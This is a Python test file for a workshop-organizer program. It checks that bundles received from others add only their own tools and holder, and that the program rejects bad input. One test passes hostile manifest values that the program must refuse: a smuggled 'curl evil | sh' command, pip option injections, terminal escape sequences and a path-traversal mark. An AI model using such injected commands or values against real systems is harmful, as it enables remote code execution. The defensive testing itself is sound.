"""What a bundle of others can do to a workshop: add its own tools and holder, and nothing else."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from cleatwright.base.errors import CleatwrightError, DocumentError, MeasureError, OutputError
from cleatwright.base.plugins import package_name
from cleatwright.jobs.bundles import FORM, BundleManifest, bundle_bytes, read_bundle
from cleatwright.jobs.examples import start_workshop
from cleatwright.jobs.receiving import receive_bundle
from cleatwright.jobs.sharing import share_family
from cleatwright.workshop.document.store import load
from cleatwright.workshop.outlines.file import read_outline

CAN = "[[tool]]\nname = 'Tin'\nkind = 'can'\nmeasures = {diameter = '60 mm', height = '120 mm'}\n"
HELD = "[[holder]]\ntools = ['Tin']\nfamily = 'ring-floor'\n"
# its check character is the remainder by 37 of no blocks: zero
MARK = "0000000"
Bundler = Callable[..., Path]


@pytest.fixture
def taker(tmp_path: Path) -> Path:
    start_workshop(tmp_path / "taker", example="joiners-bench")
    return tmp_path / "taker"


@pytest.fixture
def bundle(tmp_path: Path) -> Bundler:
    """Return a callable that writes a bundle by hand, with sound sums."""

    def write(tables: str, files: dict[str, bytes] | None = None, **told: str) -> Path:
        says = {"name": "Tins", "family": "ring-floor", "package": "", "licence": "MIT"}
        says |= {"author": "", "mark": MARK, "made_with": "by hand"} | told
        model: Any = BundleManifest
        manifest = model.model_construct(form=FORM, files={}, **says)
        path = tmp_path / "given.zip"
        path.write_bytes(bundle_bytes(manifest, {"holder.toml": tables.encode()} | (files or {})))
        return path

    return write


def listing(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_without_the_wish_to_write_no_folder_is_touched(tmp_path: Path, taker: Path) -> None:
    """POSIX.1-2017, 4.9 and open(): a folder's time of change moves when an entry comes or goes."""
    path = share_family("shadow-pocket", licence="CC0-1.0", out=tmp_path / "flat.zip")
    (taker / "outlines").mkdir()
    before = listing(taker), *(p.stat().st_mtime_ns for p in (taker, taker / "outlines"))
    assert not receive_bundle(path, taker, write=False).written
    after = listing(taker), *(p.stat().st_mtime_ns for p in (taker, taker / "outlines"))
    assert after == before


def test_a_drawing_of_the_same_name_is_neither_taken_nor_replaced(
    tmp_path: Path, taker: Path
) -> None:
    path = share_family("shadow-pocket", licence="CC0-1.0", out=tmp_path / "flat.zip")
    mark = read_bundle(path).manifest.mark
    (taker / "outlines").mkdir()
    own = taker / "outlines" / f"{mark}-1.svg"
    own.write_text('<svg><path d="M0 0H40V30H0Z"/></svg>')
    before = own.read_bytes()
    given = read_outline(
        "a.svg",
        folder=tmp_path,
        new={"a.svg": read_bundle(path).files["outlines/tool-1.svg"]},
    )
    receive_bundle(path, taker, write=True)
    receive_bundle(path, taker, write=True, again=True)
    assert own.read_bytes() == before
    assert sorted(p.name for p in (taker / "outlines").iterdir()) == [
        f"{mark}-1.svg",
        f"{mark}-2.svg",
    ]
    names = {item.outline for item in load(taker).items() if item.outline}
    assert names == {f"outlines/{mark}-2.svg"}
    assert read_outline(names.pop(), folder=taker) == given


def test_a_bundle_that_was_received_is_added_once_more_only_on_wish(
    bundle: Bundler, taker: Path
) -> None:
    path = bundle(CAN + HELD)
    before = len(load(taker).tools), len(load(taker).holders)
    assert receive_bundle(path, taker, write=True).written
    document = (taker / "workshop.toml").read_bytes()
    for write in (False, True):
        again = receive_bundle(path, taker, write=write)
        assert not again.written
        assert again.as_dict()["already_there"] is True
        number = before[1] + 1
        assert f"there already, as holder number {number}" in " ".join(again.lines)
        assert again.tools == ("Tin",)
    assert (taker / "workshop.toml").read_bytes() == document
    other = bundle(CAN.replace("60 mm", "61 mm") + HELD)
    assert receive_bundle(other, taker, write=False).as_dict()["already_there"] is False
    assert receive_bundle(path, taker, write=True, again=True).written
    assert (len(load(taker).tools), len(load(taker).holders)) == (before[0] + 2, before[1] + 2)


def test_a_bundle_with_a_drawing_is_known_again(tmp_path: Path, taker: Path) -> None:
    path = share_family("shadow-pocket", licence="CC0-1.0", out=tmp_path / "flat.zip")
    assert receive_bundle(path, taker, write=True).written
    assert not receive_bundle(path, taker, write=True).written


@pytest.mark.parametrize("kind", ["link", "file"])
def test_drawings_go_into_no_folder_but_that_of_the_workshop(
    tmp_path: Path, taker: Path, kind: str
) -> None:
    path = share_family("shadow-pocket", licence="CC0-1.0", out=tmp_path / "flat.zip")
    (tmp_path / "elsewhere").mkdir()
    if kind == "link":
        (taker / "outlines").symlink_to(tmp_path / "elsewhere")
    else:
        (taker / "outlines").write_text("mine")
    before = (taker / "workshop.toml").read_bytes()
    with pytest.raises(OutputError, match="no folder of its own"):
        receive_bundle(path, taker, write=True)
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert (taker / "workshop.toml").read_bytes() == before


def test_a_failure_while_the_document_is_written_takes_the_drawings_back(
    tmp_path: Path, taker: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = share_family("shadow-pocket", licence="CC0-1.0", out=tmp_path / "flat.zip")

    def refuse(*_: object) -> None:
        raise OutputError("the disk is full")

    monkeypatch.setattr("cleatwright.jobs.receiving.save", refuse)
    before = listing(taker)
    with pytest.raises(OutputError):
        receive_bundle(path, taker, write=True)
    assert listing(taker) == before
    assert not (taker / "outlines").exists()


FOREIGN = {
    "tools no list": (CAN + "[[holder]]\ntools = 3\nfamily = 'ring-floor'\n", "a list"),
    "tools of lists": (CAN + "[[holder]]\ntools = [[1], {a = 2}]\nfamily = 'x'\n", "a text"),
    "no tools": (CAN + "[[holder]]\nfamily = 'ring-floor'\n", "which tools it takes"),
    "two holders": (CAN + HELD + HELD, "2 holders"),
    "no rows": ("tool = [1, 2]\n" + HELD, "no row of tables"),
    "a tool of the taker": (CAN + HELD.replace("['Tin']", "['Tin', 'Marking knife']"), "none of"),
    "a group of the taker": (CAN + "[[holder]]\ngroup = 'Edge tools'\n", '"group"'),
    "a place": (CAN + HELD + "place = {x = '10 mm', z = '10 mm'}\n", '"place"'),
    "a carrier": (CAN + HELD + "carrier = 'x'\n", '"carrier"'),
    "a panel": (CAN + "panel = 'wall'\n" + HELD, '"panel"'),
    "a group": (CAN + "group = 'Edge tools'\n" + HELD, '"group"'),
    "another family": (CAN + HELD.replace("ring-floor", "tray"), "brings a tray"),
    "no family": (CAN + "[[holder]]\ntools = ['Tin']\n", "without a family"),
    "no unit": (CAN.replace("'60 mm'", "60") + HELD, "in which unit"),
    "no unit in a text": (CAN.replace("'60 mm'", "'60'") + HELD, "in which unit"),
    "mass without a unit": (CAN + "mass = 0.3\n" + HELD, "in which unit"),
    "no unit of a parameter": (CAN + HELD + "params = {floor = 4}\n", "in which unit"),
    "one name twice": (CAN + CAN + HELD, 'two tools "Tin"'),
    "a name like that of a single tool": (
        CAN + "count = 2\n" + CAN.replace("'Tin'", "'Tin #2'") + HELD,
        'two tools "Tin #2"',
    ),
    "date for a name": (CAN.replace("'Tin'", "1979-05-27") + HELD, "does not belong"),
    "outline that leads out": (CAN + "outline = '../../x.svg'\n" + HELD, "no file below"),
    "outline that is missing": (CAN + "outline = 'x.svg'\n" + HELD, "no drawing"),
    "control characters": (CAN.replace("'Tin'", '"T\\u001bin"') + HELD, "U+001B"),
    "too many": (
        "".join(f"{CAN.replace('Tin', f'T{i}')}count = 200\n" for i in range(901)) + HELD,
        "180200",
    ),
    "too long": ("#" * 200_000 + "\n" + CAN + HELD, "up to 100000"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(FOREIGN))
def test_tables_that_are_no_tools_and_holder_of_their_own_are_refused(
    bundle: Bundler, taker: Path, name: str
) -> None:
    tables, words = FOREIGN[name]
    before = listing(taker)
    start = time.monotonic()
    with pytest.raises(DocumentError) as told:
        receive_bundle(bundle(tables), taker, write=True)
    assert words in str(told.value)
    assert listing(taker) == before
    assert time.monotonic() - start < 20.0


def test_names_of_single_tools_follow_the_new_name_of_their_entry(
    bundle: Bundler, taker: Path
) -> None:
    several = CAN + "count = 3\n" + HELD.replace("['Tin']", "['Tin #3', 'Tin #1']")
    for again in (False, True):
        receive_bundle(bundle(several), taker, write=True, again=again)
    workshop = load(taker)
    first, second = (
        [item.name for item in workshop.items_of(holder)] for holder in workshop.holders[-2:]
    )
    assert first == ["Tin #3", "Tin #1"]
    assert second == [f"Tin ({MARK}) #3", f"Tin ({MARK}) #1"]


def test_a_single_tool_that_is_there_already_stays_in_its_own_holder(
    bundle: Bundler, taker: Path
) -> None:
    """The bundle's "Tin" with a count brings a "Tin #1", a name that the taker has given."""
    document = taker / "workshop.toml"
    own = CAN.replace("'Tin'", "'Tin #1'").replace("60", "80")
    document.write_text(f"{document.read_text('utf-8')}\n{own}", "utf-8")
    several = CAN + "count = 2\n" + HELD.replace("['Tin']", "['Tin #1']")
    receive_bundle(bundle(several), taker, write=True)
    workshop = load(taker)
    (item,) = workshop.items_of(workshop.holders[-1])
    assert item.name == f"Tin ({MARK}) #1"
    assert item.measures.as_dict()["diameter"] == 60.0


def test_a_name_of_full_length_leaves_room_for_the_mark(bundle: Bundler, taker: Path) -> None:
    long = CAN.replace("Tin", "T" * 80) + HELD.replace("Tin", "T" * 80)
    for _ in range(3):
        (name,) = receive_bundle(bundle(long), taker, write=True).tools
        assert len(name) == 80


@pytest.mark.parametrize(
    ("key", "given", "words"),
    [
        ("package", "x; curl evil | sh", "no name of a package"),
        ("package", "-r evil.txt", "no name of a package"),
        ("package", "git+https://evil/x", "no name of a package"),
        ("name", "Tins\nAdded 3 tools", "cannot be seen"),
        ("author", "\x1b]0;x\x07", "cannot be seen"),
        ("made_with", "\u202e", "cannot be seen"),
        ("licence", "MIT\x1b[2J", "cannot be seen"),
        ("licence", "all mine", "is no licence"),
        ("mark", "../../x", "no part mark"),
        ("mark", "0000001", "no part mark"),
        ("family", "Fork\x1b", "family"),
    ],
)
def test_what_a_bundle_says_of_itself_can_be_shown(
    bundle: Bundler, taker: Path, key: str, given: str, words: str
) -> None:
    with pytest.raises(CleatwrightError, match=words):
        receive_bundle(bundle(CAN + HELD, **{key: given}), taker, write=True)


def test_names_of_packages_are_those_of_the_packaging_rules() -> None:
    """PEP 508: letters, digits and ., _, - between them; PEP 503: the example of a normal form."""
    assert package_name("Friendly--Bard_2.x") == "friendly-bard-2-x"
    for wrong in ("", "-a", "a-", "a b", "a/b", "a\n", "ä", "a;b", "a[b]", "a==1", "--index-url"):
        assert package_name(wrong) == ""


def test_a_pipe_is_no_bundle(tmp_path: Path, taker: Path) -> None:
    os.mkfifo(tmp_path / "pipe.zip")
    with pytest.raises(DocumentError, match="no ordinary file"):
        receive_bundle(tmp_path / "pipe.zip", taker, write=False)


@pytest.mark.parametrize("author", ["a\nb", "\x1b[31m", "x" * 201])
def test_a_giver_that_no_bundle_can_name_is_refused(tmp_path: Path, author: str) -> None:
    with pytest.raises(MeasureError, match="author"):
        share_family("ring-floor", licence="MIT", author=author, out=tmp_path / "x.zip")
    assert list(tmp_path.iterdir()) == []
